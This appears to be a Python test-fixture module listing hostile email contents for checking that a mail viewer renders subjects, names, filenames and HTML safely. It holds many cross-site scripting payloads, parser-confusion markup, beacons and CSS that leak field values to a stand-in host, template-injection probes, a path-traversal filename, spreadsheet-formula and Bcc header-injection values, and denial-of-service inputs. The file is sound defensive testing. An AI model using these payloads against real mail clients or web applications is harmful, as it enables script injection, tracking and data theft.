"""What a mail may hold to hurt whoever looks at it: each case is words for its fields, or html.

What runs asks for `pwned` at the app or at another host, opens a dialog, or changes a title; what
leaves asks for `elsewhere.example`.
"""

from __future__ import annotations

from dataclasses import dataclass

RUN = "fetch('/static/pwned');document.title='pwned';alert(1)"
AWAY = "https://elsewhere.example/pwned"
LONG = "W" * 250


@dataclass(frozen=True)
class Case:
    """One mail. `words` go into subject, names, filename, tag and metadata; None where it is html alone."""

    name: str
    html: str
    words: str | None = None


def _both(name: str, text: str) -> Case:
    return Case(name, text, text)


_IN_ANY_FIELD = [
    _both("a script", f"<script>{RUN}</script>"),
    _both("a script from elsewhere", f"<script src={AWAY}.js></script>"),
    _both("a script in odd letters", f"<ScRiPt/x>{RUN}</sCrIpT >"),
    _both("a picture's handler", f'<img src=x onerror="{RUN}">'),
    _both("a handler without quotation marks", "<img src=x onerror=alert(1)>"),
    _both("a details' handler", f'<details open ontoggle="{RUN}">x</details>'),
    _both("a field that takes the focus", f'<input autofocus onfocus="{RUN}">'),
    _both("a marquee", f'<marquee onstart="{RUN}">x</marquee>'),
    _both("svg with a handler", f'<svg onload="{RUN}"></svg>'),
    _both("svg with a script", f"<svg><script>{RUN}</script></svg>"),
    _both("svg that animates a link", "<svg><a><animate attributeName=href to=javascript:alert(1) />"),
    _both("svg with html in it", f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject>"),
    _both("math with a link", '<math href="javascript:alert(1)"><mi>x</mi></math>'),
    _both("math that confuses a parser", "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>"),
    _both("a refresh", f'<meta http-equiv="refresh" content="0;url={AWAY}">'),
    _both("a refresh by javascript", '<meta http-equiv=refresh content="0;url=javascript:alert(1)">'),
    _both("a policy of its own", '<meta http-equiv="Content-Security-Policy" content="script-src *">'),
    _both("a base", '<base href="https://elsewhere.example/">'),
    _both("a form", f'<form action={AWAY}><input name=key><button>Sign in</button></form>'),
    _both("a button that belongs to another form", f'<button form=next formaction="{AWAY}">Go</button>'),
    _both("a frame with a document", f'<iframe srcdoc="<script>{RUN}</script>"></iframe>'),
    _both("a frame from elsewhere", f"<iframe src={AWAY}></iframe>"),
    _both("a frame by javascript", '<iframe src="javascript:top.alert(1)"></iframe>'),
    _both("an object", f'<object data="{AWAY}.swf"></object>'),
    _both("an embedded file", f"<embed src={AWAY}.pdf>"),
    _both("an object with a document", "<object data='data:text/html,<script>alert(1)</script>'></object>"),
    _both("a style", f"<style>*{{display:none}}body{{background:url({AWAY}.png)}}</style>"),
    _both("an imported style", f"<style>@import '{AWAY}.css';</style>"),
    _both("a style of its own", f'<div style="position:fixed;inset:0;background:url({AWAY})">x</div>'),
    _both("a sheet", f"<link rel=stylesheet href={AWAY}.css>"),
    _both("a prefetch", f"<link rel=prefetch href={AWAY}><link rel=dns-prefetch href=//elsewhere.example>"),
    _both("a preload", f"<link rel=preload as=script href={AWAY}.js><link rel=modulepreload href={AWAY}.js>"),
    _both("a manifest", f"<link rel=manifest href={AWAY}.json>"),
    _both("a picture that counts readers", f'<img src="{AWAY}.gif" width=1 height=1>'),
    _both("a set of pictures", f'<img srcset="{AWAY}.gif 1x, {AWAY}2.gif 2x">'),
    _both("a film", f"<video src={AWAY}.mp4 poster={AWAY}.png autoplay></video>"),
    _both("a sound", f"<audio src={AWAY}.mp3 autoplay></audio>"),
    _both("a background of old", f'<table background="{AWAY}.png"><tr><td>x</table>'),
    _both("a link by javascript", '<a href="javascript:alert(1)">Release</a>'),
    _both("a link by javascript in pieces", '<a href="java&#x09;script:alert(1)">Release</a>'),
    _both("a link with data", '<a href="data:text/html,<script>alert(1)</script>">Release</a>'),
    _both("a link that pings", f'<a href=# ping="{AWAY}">x</a>'),
    _both("an attribute that ends", f'"><script>{RUN}</script><x y="'),
    _both("an attribute that ends with one mark", f"'><script>{RUN}</script><x y='"),
    _both("an attribute more", f'" autofocus onfocus="{RUN}" x="'),
    _both("a title that ends", f"</title><script>{RUN}</script>"),
    _both("a text that ends", f"</textarea></pre></select></iframe><script>{RUN}</script>"),
    _both("a script that ends", f"</script><script>{RUN}</script>"),
    _both("a comment that ends", f"--><script>{RUN}</script><!--"),
    _both("a page that ends", "</td></tr></table></main></body></html><h1>Signed out</h1>"),
    _both("a comment that begins", "<!--"),
    _both("a text that begins", "<textarea><plaintext>"),
    _both("a template's sum", "{{7*7}}${7*7}<%=7*7%>#{7*7}{% raw %}"),
    _both("a template's classes", "{{ ''.__class__.__mro__[1].__subclasses__() }}{{ site }}{{ config }}"),
    _both("format letters", "%s%n%x {0} {mail.mail_id} \\u0041 \\x3cscript\\x3e"),
    _both("entities", "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &amp;amp; &nbsp"),
    _both("names of the page's elements", '<form id=next></form><p id=mail data-live></p><a id=bar name=attributes>'),
    _both("text from right to left", "\u202egpj.exe\u202c \u2066abc \u05d0\u05d1\u2069 \u200fx"),
    _both("text that is not closed", "\u202e\u2067\u202b never ended"),
    _both("letters without width", "a\u200b\u200c\u200d\ufeffb\u2060"),
    _both("marks on marks", "Z" + "\u0335\u0321\u030b\u0352" * 40),
    _both("a long word", LONG),
    _both("a long word of wide letters", "\ufdfd" * 120),
    _both("emoji that are one", "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 20),
    _both("letters outside of planes", "\U000e0001\U000e0041 \U0010fffd \ufffe \ufffd"),
    _both("markup in wide letters", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    _both("a path as a name", "../../../etc/passwd%00.png"),
    _both("a device as a name", "CON.\\\\server\\share:stream.exe "),
    _both("a sum of a spreadsheet", "=HYPERLINK(\"https://elsewhere.example\",\"x\")|calc"),
    _both("markup in another code", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
]  # fmt: skip

_AS_HTML = [
    Case("zeros and control characters", "<scr\0ipt>alert(1)</scr\0ipt>\x01\x08\x0b\x1b[31m\x7f\x85"),
    Case("a document of its own", f"<!doctype html><html><head><title>x</title><script>{RUN}</script></head><body onload=\"{RUN}\"><h1>Hi"),
    Case("a document within a document", f"<html><body onload={RUN}><html><body onpageshow=alert(1)>"),
    Case("a document of frames", f"<frameset onload={RUN}><frame src={AWAY}></frameset>"),
    Case("a way out of the frame", "<a id=out target=_top href='/accounts'>x</a><script>top.location='/accounts'</script>"),
    Case("a window of its own", f"<script>open('{AWAY}')</script><a target=_blank href={AWAY}>x</a>"),
    Case("a font from elsewhere", f"<style>@font-face{{font-family:x;src:url({AWAY}.woff)}}p{{font-family:x}}</style><p>x"),
    Case("a style that reads fields", f"<style>input[value^=a]{{background:url({AWAY})}}</style><input value=abc>"),
    Case("a worker", f"<script>new Worker('data:,{RUN}')</script>"),
    Case("a style with old expressions", "<p style=\"width:expression(alert(1));behavior:url(#x);-moz-binding:url(x)\">x"),
    Case("a template", f"<template shadowrootmode=open><script>{RUN}</script><slot></slot></template>"),
    Case("html that is deep", "<div>" * 20_000 + "x"),
    Case("tables that are deep", "<table><tr><td>" * 3_000 + "x"),
    Case("html of a megabyte", "<p>Hello, <b>Ada</b></p>" * 44_000),
    Case("a line of a megabyte", "W" * 1_000_000),
    Case("attributes of no end", "<p " + "a=b " * 50_000 + ">x"),
    Case("a thousand pictures from elsewhere", f"<img src={AWAY}>" * 1_000),
    Case("nothing to see", "<p></p>"),
]  # fmt: skip

CASES = [*_IN_ANY_FIELD, *_AS_HTML]

REFUSED = {
    "half a pair": "\ud800 \udc00",
    "a zero": "a\0b",
    "a line more": "a\r\nBcc: eve@elsewhere.example",
    "the end of a line": "a\u2028b",
}
"""Words that no field of a line takes."""
